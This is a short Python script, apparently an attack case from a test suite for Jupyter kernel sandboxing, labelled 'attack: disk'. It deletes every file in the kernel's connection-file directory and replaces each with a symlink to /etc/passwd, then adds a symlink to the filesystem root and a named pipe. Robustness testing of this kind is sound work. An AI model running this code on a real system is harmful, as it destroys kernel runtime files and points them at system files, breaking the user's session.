"""Puts links to other files in the place of its sockets and files.

attack: disk
limits: cell=2
within: 25
"""
import os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
for name in os.listdir(folder):
    try:
        os.unlink(os.path.join(folder, name))
        os.symlink("/etc/passwd", os.path.join(folder, name))
    except OSError:
        pass
try:
    os.symlink("/", os.path.join(folder, "loop"))
    os.mkfifo(os.path.join(folder, "pipe"))
except OSError:
    pass
